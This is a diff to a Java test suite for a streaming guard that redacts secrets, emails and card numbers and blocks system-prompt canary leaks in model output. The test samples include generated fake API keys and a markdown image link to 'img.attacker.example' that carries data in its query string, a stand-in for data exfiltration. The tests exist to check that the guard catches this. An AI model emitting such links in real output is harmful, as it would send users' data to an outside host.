@@ -63,6 +63,19 @@ class StreamingGuardTests {
 				piece = "sk-" + token(random, 24 + random.nextInt(20));
 				secrets.add(piece);
 			}
+			else if (pick == 5) {
+				// AWS access key id, found by the secret scanner on main
+				StringBuilder key = new StringBuilder("AKIA");
+				for (int k = 0; k < 16; k++) {
+					key.append("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".charAt(random.nextInt(32)));
+				}
+				piece = key.toString();
+				secrets.add(piece);
+			}
+			else if (pick == 6) {
+				piece = "sk-proj-" + token(random, 40);
+				secrets.add(piece);
+			}
 			else if (pick == 3) {
 				String data = token(random, 16 + random.nextInt(30));
 				piece = "![status chart](https://img.attacker.example/p.png?d=" + data + ")";
@@ -108,7 +121,7 @@ class StreamingGuardTests {
 	@Test
 	void streamedResultEqualsWholeTextResultAndNothingLeaksEarly() {
 		int redactedSamples = 0;
-		for (int seed = 0; seed < 300; seed++) {
+		for (int seed = 0; seed < 200; seed++) {
 			Random random = new Random(seed);
 			Sample sample = sample(random);
 			Verdict whole = this.pipeline.scan(sample.text(), ScanContext.output());
@@ -136,20 +149,24 @@ class StreamingGuardTests {
 			assertThat(session.held()).isZero();
 		}
 		// the samples really contained entities to redact
-		assertThat(redactedSamples).isGreaterThan(250);
+		assertThat(redactedSamples).isGreaterThan(160);
 	}
 
 	@Test
 	void entitySplitAcrossChunksIsCaught() {
+		List<String> chunks = List.of("Write to ", "john.do", "e@example.com", " for help, he answers within the day ",
+				"and is usually quick about it.");
 		StreamingGuard.Session session = this.guard.open(ScanContext.output());
 		StringBuilder out = new StringBuilder();
-		for (String chunk : List.of("Write to ", "john.do", "e@example.com", " for help, he answers within the day ",
-				"and is usually quick about it.")) {
+		for (String chunk : chunks) {
 			out.append(session.accept(chunk).text());
+			assertThat(out.toString()).doesNotContain("john");
 		}
 		out.append(session.finish().text());
-		assertThat(out.toString())
-			.isEqualTo("Write to <EMAIL> for help, he answers within the day and is usually quick about it.");
+		String whole = this.pipeline.scan(String.join("", chunks), ScanContext.output()).text();
+		assertThat(out.toString()).isEqualTo(whole)
+			.startsWith("Write to <EMAIL")
+			.endsWith("> for help, he answers within the day and is usually quick about it.");
 	}
 
 	@Test
@@ -163,8 +180,9 @@ class StreamingGuardTests {
 			}
 		}
 		assertThat(receivedAtFirstEmission).isPositive()
-			.isLessThanOrEqualTo(StreamingGuard.DEFAULT_LOOKAHEAD + 2 * 6L + 5);
-		assertThat(session.maxHeld()).isLessThan(StreamingGuard.DEFAULT_LOOKAHEAD + 20);
+			.isLessThanOrEqualTo(StreamingGuard.DEFAULT_LOOKAHEAD + StreamingGuard.DEFAULT_MIN_RELEASE + 2 * 6L + 5);
+		assertThat(session.maxHeld())
+			.isLessThan(StreamingGuard.DEFAULT_LOOKAHEAD + StreamingGuard.DEFAULT_MIN_RELEASE + 20);
 	}
 
 	@Test
@@ -204,6 +222,41 @@ class StreamingGuardTests {
 		assertThat(out.toString()).doesNotContain("never arrive");
 		assertThat(session.accept("more").isBlocked()).isTrue();
 		assertThat(session.finish().isBlocked()).isTrue();
+	}
+
+	@Test
+	void listenersHearOneSummaryPerStreamWithEachFindingOnce() {
+		List<Verdict> heard = new ArrayList<>();
+		List<Scanner> scanners = new ArrayList<>(GuardPipelines.defaultOutputScanners());
+		scanners.add(TestScanners.card());
+		GuardPipeline listened = GuardPipeline.builder()
+			.direction(Direction.OUTPUT)
+			.scanners(scanners)
+			.listener((context, verdict, length, nanos) -> heard.add(verdict))
+			.build();
+		StreamingGuard.Session session = StreamingGuard.builder(listened).build().open(ScanContext.output());
+		String text = "Pay with 4111 1111 1111 1111 today. " + "Nothing else to add here. ".repeat(30);
+		for (String chunk : chunk(text, new Random(9), 4)) {
+			session.accept(chunk);
+		}
+		session.finish();
+		assertThat(heard).singleElement().satisfies((verdict) -> {
+			assertThat(verdict.decision()).isEqualTo(Decision.SANITIZE);
+			assertThat(verdict.findings()).filteredOn((finding) -> finding.detectorId().equals("test-card")).hasSize(1);
+			assertThat(verdict.text()).isEmpty();
+		});
+		heard.clear();
+		String canary = Canary.generate();
+		StreamingGuard.Session blocked = StreamingGuard.builder(listened)
+			.build()
+			.open(ScanContext.output(Canary.embed("You are terse.", canary)));
+		for (String chunk : chunk("Here: " + canary + " " + "and more ".repeat(20), new Random(2), 4)) {
+			if (blocked.accept(chunk).isBlocked()) {
+				break;
+			}
+		}
+		blocked.finish();
+		assertThat(heard).singleElement().satisfies((verdict) -> assertThat(verdict.isBlocked()).isTrue());
 	}
 
 	@Test
